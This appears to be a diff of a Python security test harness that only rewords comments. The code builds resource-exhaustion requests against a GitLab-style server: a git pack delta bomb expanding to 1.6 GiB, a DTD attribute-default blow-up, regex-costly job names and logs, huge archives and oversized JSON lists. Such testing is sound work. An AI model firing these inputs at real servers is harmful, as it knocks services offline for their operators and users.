@@ -1,4 +1,4 @@
-"""Single requests that are expensive to answer: the size of each grows with a number, in the worst known shape."""
+"""Single requests that are expensive to answer. The size of each grows with a number, in the worst known shape."""
 
 import base64
 import gzip
@@ -23,8 +23,8 @@ from scripts.harness.contents import archive, commit_values, multipart
 
 @attrs.frozen
 class Request:
-    """One request, by a stranger unless the headers say who. `worked_on` are the bytes that were sent before, and are
-    worked on with it."""
+    """One request; it is anonymous unless its headers have credentials. `worked_on` are the bytes that were sent
+    before and that the server processes for this request."""
 
     method: str
     url: str
@@ -34,11 +34,11 @@ class Request:
 
     @property
     def size(self) -> int:
-        """The bytes that the server has to work on."""
+        """The number of bytes that the server has to process."""
         return len(self.url) + len(self.body) + sum(map(len, self.headers.values())) + self.worked_on
 
     async def send(self, http: aiohttp.ClientSession) -> str:
-        """Send it and read the answer; return its status."""
+        """Send the request and read the answer; return its status."""
         async with http.request(
             self.method,
             self.url,
@@ -80,9 +80,9 @@ class Job:
 
 
 async def running_job(target: AttackTarget, http: aiohttp.ClientSession, file: str) -> Job:
-    """Start a pipeline with that CI file; return its only job, running."""
+    """Start a pipeline with that CI file; return its only job when it runs."""
     api, project = f"{target.api_url}/api/v4", target.project(target.mine)
-    branch = f"job-{secrets.token_hex(4)}"  # other attackers have made some before
+    branch = f"job-{secrets.token_hex(4)}"  # other attackers have created branches before
     commit = commit_values(branch, {".gitlab-ci.yml": file}, start_branch="main")
     async with http.post(f"{project}/repository/commits", json=commit, headers=target.as_attacker) as answer:
         answer.raise_for_status()
@@ -99,10 +99,10 @@ async def running_job(target: AttackTarget, http: aiohttp.ClientSession, file: s
             return Job(taken["id"], taken["token"], int(variables["CI_PIPELINE_ID"]), api)
 
 
-# --- packs as no git makes them (gitformat-pack(5)) ------------------------------------------------------------------
+# --- packs that git does not make (gitformat-pack(5)) ---------------------------------------------------------------
 
 _BLOB, _OFS_DELTA = 3, 6
-_COPIED = 0xFFFFFF  # the most that one instruction of a delta copies
+_COPIED = 0xFFFFFF  # the largest size that one instruction of a delta can copy
 
 
 def pkt_line(line: bytes) -> bytes:
@@ -111,14 +111,14 @@ def pkt_line(line: bytes) -> bytes:
 
 
 def push_body(ref: str, pack: bytes) -> bytes:
-    """Return the body of a push that creates `ref`; what it is to point at does not exist."""
+    """Return the body of a push that creates `ref` at an object that does not exist."""
     command = f"{'0' * 40} {'1' * 40} {ref}".encode() + b"\0 report-status\n"
     return pkt_line(command) + b"0000" + pack
 
 
 def delta_bomb(copies: int = 100) -> bytes:
-    """Return a pack with a blob of 16 MiB in a few bytes, and a delta that copies it; a hundred copies are 1.6 GiB when
-    unpacked."""
+    """Return a pack with a blob of 16 MiB in a few bytes, and a delta that copies it; a hundred copies are 1.6 GiB
+    when unpacked."""
     base = bytes(_COPIED)
     compressed = _deflated(base)
     instructions = b"\xf0\xff\xff\xff" * copies  # offset 0, three bytes of size
@@ -160,22 +160,22 @@ def _delta_size(size: int) -> bytes:
 
 # --- the inputs -----------------------------------------------------------------------------------------------------
 
-#: One job, which leaves `files`.
+#: One job that leaves `files`.
 ARTIFACTS_CONFIG = "job:\n  script: ['true']\n  artifacts:\n    paths: [files]\n"
 _REPORT = "job:\n  script: ['true']\n  artifacts:\n    reports:\n      {}\n"
-#: What has been compiled once is remembered.
+#: Numbers for expressions that are new each time, since the server caches compiled ones.
 _expressions = count()
 _BOUNDARY = "abuse"
 
 
-#: Gives the request of a size; some need a job, or a project's file, to be made for it first.
+#: Return the request for a size. Some create a job or a file of a project for it first.
 Make = Callable[[AttackTarget, aiohttp.ClientSession, int], Awaitable[Request]]
 
 
 @attrs.frozen
 class Input:
-    """`largest` is the number that the attack uses; a quarter and a half of it show how the cost grows. A request that
-    works `once` is made anew each time: it ends a job, for instance."""
+    """An expensive input. `largest` is the number that the attack uses; a quarter and a half of it show how the cost
+    grows. A request that works only `once` is created anew each time, for example because it ends a job."""
 
     largest: int
     make: Make
@@ -200,12 +200,12 @@ def _simple(largest: int, make: Callable[[AttackTarget, int], Request]) -> Input
 
 
 def _of_strangers(largest: int, path: str, value: Callable[[int], Any]) -> Input:
-    """Return an input of JSON that is sent without a token."""
+    """Return an input that is sent as JSON without a token."""
     return _simple(largest, lambda target, number: _json(target, path, value(number)))
 
 
 def _of_mine(largest: int, path: str, value: Callable[[int], Any]) -> Input:
-    """Return an input of JSON that an Owner sends to a path below her project."""
+    """Return an input that an Owner sends as JSON to a path below her project."""
     return _simple(
         largest, lambda target, n: _json(target, target.project(target.mine) + path, value(n), signed_in=True)
     )
@@ -268,25 +268,27 @@ def _lfs(target: AttackTarget, number: int) -> Request:
 
 
 async def _masked_log(target: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
-    """Make secrets that begin alike; return a log of their beginnings."""
+    """Create masked variables whose values begin alike; return the request that sends a log of their beginnings."""
     project = target.project(target.mine)
     for key, value in (("SHORT", "b" * 8), ("LONG", "a" * 9990 + "0" * 8)):
         body = {"key": key, "value": value, "masked": True}
         async with http.post(f"{project}/variables", json=body, headers=target.as_attacker) as answer:
-            await answer.read()  # 400 where it is there already
+            await answer.read()  # 400 if the variable exists
     job = await running_job(target, http, "job:\n  script: ['true']\n")
     return job.log(b"a" * number)
 
 
 async def _coverage(target: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
-    """Send a line of digits, whose last match is looked for when the job ends; return the request that ends it."""
+    """Send a log that is one line of digits, in which the server searches the last match when the job ends; return the
+    request that ends the job."""
     job = await running_job(target, http, "job:\n  coverage: '/\\d/'\n  script: ['true']\n")
     await job.log(b"1" * number).send(http)
     return attrs.evolve(job.finish(), worked_on=number)
 
 
 async def _test_report(target: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
-    """Upload a report with a default value of an attribute that each test case would have."""
+    """Upload a report with a long default value of an attribute, which would apply to each test case; return the
+    request for the report."""
     job = await running_job(target, http, _REPORT.format("junit: report.xml"))
     document = f'<!DOCTYPE testsuites [<!ATTLIST testcase classname CDATA "{"a" * 100 * number}">]>'
     cases = '<testcase name="a"/>' * number
@@ -302,7 +304,8 @@ def _report_of(target: AttackTarget, job: Job, worked_on: int) -> Request:
 
 
 async def _names_of_jobs(target: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
-    """Make a job of a name that the expression for parts of a job (`name 1/2`) tries at each of its characters."""
+    """Create a job with a name in which the expression for parallel jobs (`name 1/2`) is tried at each character;
+    return the request for its test report."""
     file = _REPORT.format("junit: report.xml").replace("job", f"'{'1 ' * (number // 2)}x'", 1)
     job = await running_job(target, http, file)
     await job.upload({"report.xml": "<testsuites/>"}, "junit").send(http)
@@ -311,7 +314,7 @@ async def _names_of_jobs(target: AttackTarget, http: aiohttp.ClientSession, numb
 
 
 async def _artifact_members(target: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
-    """Upload an archive of very many files; return a stranger's look at one folder of it."""
+    """Upload an archive of very many files; return an anonymous request for the page of one folder of it."""
     job = await running_job(target, http, ARTIFACTS_CONFIG)
     upload = job.upload({f"files/{index:06}.txt": "x" for index in range(number)})
     await upload.send(http)
@@ -329,7 +332,7 @@ def _edge_file(target: AttackTarget, _: int = 0) -> str:
     return f"{target.edge_url}/{target.public}/-/raw/main/src/1/1.txt"
 
 
-#: By name, as the command line and docs/security.md have them.
+#: Inputs by their name, which the command line and docs/security.md use.
 INPUTS: dict[str, Input] = {
     "list-items": _of_strangers(50_000, "/runners", lambda n: {"token": "x", "tag_list": [{}] * n}),
     "list-objects": _of_mine(
